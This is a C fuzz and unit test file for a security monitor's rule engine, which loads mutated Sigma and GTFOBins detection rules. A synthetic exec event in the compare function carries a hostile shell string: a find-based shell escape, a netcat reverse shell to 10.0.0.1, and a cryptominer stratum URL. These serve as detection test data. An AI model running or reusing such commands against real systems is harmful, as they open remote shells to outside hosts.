/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Rules of strangers, read and compared: Sigma, GTFOBins, and the sets that are made of
 * them, whoever has changed those.
 *
 * Built with plain main() it takes the rules of tests/unit/monitor, and bytes that are made
 * of them by chance (always the same ones; COI_FUZZ_RUNS says how many). With
 * -DCOI_FUZZ_LIBRARY a fuzzing engine brings the bytes.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/json.h"
#include "base/mem.h"
#include "monitor/pattern/compile.h"
#include "monitor/pattern/frame.h"
#include "monitor/pattern/set.h"
#include "unit/monitor/foreign.h"

#define BYTES_MAX 16384
#define RUNS_DEFAULT 4000

static void count(const struct pattern_info *info, const char *indicator, void *data) {
	size_t *n = data;

	assert_true(info->level <= AUDIT_HIGH);
	assert_true(*info->id && *indicator);
	++*n;
}

static void compare(struct patterns *all) {
	static char *const argv[] = {
		(char *)"sh", (char *)"-c",
		(char *)"find . -exec /bin/sh \\; -quit | nc -e sh 10.0.0.1 9; "
			"python3 -c 'import socket' stratum+tcp://x aaaaaaaaaaaaaaa!"
	};
	const struct watch_event e = { .kind = WATCH_EXEC,
		                       .pid = 7,
		                       .ppid = 7,
		                       .exec = { .exe = "/bin/sh",
		                                 .file = "sh",
		                                 .comm = "sh",
		                                 .argv = argv,
		                                 .argc = ARRAY_SIZE(argv) } };
	size_t fires = 0;

	(void)patterns_match(all, &e, count, &fires);
	assert_true(fires <= patterns_count(all));
}

/* What is taken can be loaded: patterns_add() refuses a set for one rule that cannot. */
static void compile(const char *kind, const char *data, size_t size) {
	auto_json json_t *answer = pattern_compile(kind, "rules/a.yml", data, size);
	auto_json json_t *set = NULL;
	auto_patterns struct patterns *all = patterns_new();
	autofree char *text = NULL;
	struct err err = { 0 };

	assert_non_null(answer);
	if (!json_array_size(json_object_get(answer, "rules")))
		return;
	set = json_pack("{s:i, s:O}", "format", 1, "rules", json_object_get(answer, "rules"));
	text = json_dumps(set, JSON_COMPACT);
	assert_non_null(text);
	if (patterns_add(all, text, strlen(text), &err) < 0)
		fail_msg("%s", err.msg);
	compare(all);
}

/* The first byte says what it is. */
static void one(const uint8_t *data, size_t size) {
	const char *text = (const char *)data + 1;
	auto_patterns struct patterns *all = patterns_new();
	struct err err = { 0 };
	struct frame f;

	if (!size)
		return;
	size--;
	switch (data[0] % 4) {
	case 0:
		compile("sigma", text, size);
		break;
	case 1:
		compile("gtfobins", text, size);
		break;
	case 2:
		if (patterns_add(all, text, size, &err) == 0)
			compare(all);
		break;
	default:
		while (frame_next(&text, &size, &f))
			assert_true(strlen(f.name) < FRAME_NAME_MAX);
	}
}

#ifdef COI_FUZZ_LIBRARY
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size) {
	one(data, size);
	return 0;
}
#else

/* A rule as it is, or the set that it makes. */
static size_t put(uint8_t *out, size_t number) {
	const struct foreign *f = &foreign[number / 2 % foreign_count];
	autofree char *text = NULL;
	size_t len;

	out[0] = !strcmp(f->kind, "gtfobins");
	if (number % 2) {
		auto_json json_t *answer =
			pattern_compile(f->kind, f->file, f->text, strlen(f->text));
		auto_json json_t *set = json_pack("{s:i, s:O}", "format", 1, "rules",
		                                  json_object_get(answer, "rules"));

		out[0] = 2;
		text = json_dumps(set, JSON_COMPACT);
	} else {
		text = xstrdup(f->text);
	}
	len = strlen(text) < BYTES_MAX - 1 ? strlen(text) : BYTES_MAX - 1;
	memcpy(out + 1, text, len);
	return len + 1;
}

static void the_rules(void **state) {
	static uint8_t bytes[BYTES_MAX];

	(void)state;
	for (size_t i = 0; i < 2 * foreign_count; i++)
		one(bytes, put(bytes, i));
}

/* The signs that mean something, more often than others. */
static void change(uint8_t *bytes, size_t *size, unsigned *seed) {
	static const char signs[] = "'\"|:-*?&!%@`[]{}()\\\n \t#>,~.+^$\0001";
	size_t at = (unsigned)rand_r(seed) % (*size ? *size : 1);
	uint8_t sign = (uint8_t)signs[(unsigned)rand_r(seed) % sizeof(signs)];
	size_t n = (unsigned)rand_r(seed) % 64;

	switch (rand_r(seed) % 5) {
	case 0:
		bytes[at] = (uint8_t)rand_r(seed);
		break;
	case 1:
		bytes[at] = sign;
		break;
	case 2: /* one more */
		if (*size == BYTES_MAX)
			break;
		memmove(bytes + at + 1, bytes + at, *size - at);
		bytes[at] = sign;
		++*size;
		break;
	case 3: /* cut a piece out */
		n = n < *size - at ? n : *size - at;
		memmove(bytes + at, bytes + at + n, *size - at - n);
		*size -= n;
		break;
	default: /* a piece again */
		if (n > *size - at || *size + n > BYTES_MAX)
			break;
		memmove(bytes + at + n, bytes + at, *size - at);
		*size += n;
	}
}

static void bytes_by_chance(void **state) {
	static uint8_t bytes[BYTES_MAX];
	const char *runs_text = getenv("COI_FUZZ_RUNS"), *seed_text = getenv("COI_FUZZ_SEED");
	long runs = runs_text ? strtol(runs_text, NULL, 10) : RUNS_DEFAULT;
	unsigned seed = seed_text ? (unsigned)strtoul(seed_text, NULL, 10) : 1;

	(void)state;
	for (long i = 0; i < runs; i++) {
		size_t size = put(bytes, (size_t)rand_r(&seed));

		for (int n = rand_r(&seed) % 12; n >= 0; n--)
			change(bytes, &size, &seed);
		one(bytes, size);
	}
}

int main(void) {
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(the_rules),
		cmocka_unit_test(bytes_by_chance),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
#endif
